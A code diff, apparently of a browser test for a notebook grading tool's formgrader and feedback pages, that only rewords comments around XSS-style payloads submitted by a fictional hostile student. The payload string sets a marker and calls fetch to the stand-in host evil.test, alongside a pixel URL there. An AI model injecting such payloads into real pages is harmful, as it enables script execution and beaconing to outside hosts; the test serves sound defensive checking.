@@ -1,4 +1,4 @@
-// What a hostile student hands in, on the pages where it is read: the formgrader's and feedback. Nothing of it runs, and nothing
+// Hostile submissions on the pages where they are read: the formgrader's and feedback. Nothing of them runs, and nothing
 // leaves the page; what is no attack is still to be seen.
 import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
 import path from 'node:path';
@@ -13,7 +13,7 @@ const assignment = '01-chain-rule-and-hooks';
 const name = notebookOf(assignment).replace('.ipynb', '');
 const student = 'Mallory, M. (LATE)';
 
-/** What each payload would do: leave a mark on the page, and ask another host and this one. */
+/** The effect of each payload, if it ran: a mark on the page, and requests to another host and this one. */
 const run = (id: string): string =>
   `window.pwned=(window.pwned||[]).concat('${id}');fetch('http://evil.test/${id}');fetch('/pwned/${id}')`;
 const pixel = 'http://evil.test/pixel.png';
@@ -126,14 +126,14 @@ interface Found {
   handlers: string[];
 }
 
-/** What a page holds outside of what is the page's own. */
+/** The elements of a page that are not the page's own. */
 const found = (page: Page): Promise<Found> =>
   page.evaluate(() => {
     const inside = [...document.querySelectorAll('#notebook-container *')];
     const attributes = inside.flatMap((element) => [...element.attributes]);
     return {
       pwned: (window as { pwned?: unknown }).pwned,
-      // What is a link and leads to the web asks for nothing by itself.
+      // Links to the web cause no request by themselves.
       addresses: attributes
         .filter((a) => !(a.name === 'href' && a.ownerElement?.tagName === 'A' && /^https?:/.test(a.value)))
         .filter((a) => ['href', 'src', 'srcset', 'action', 'data'].includes(a.name.toLowerCase()))
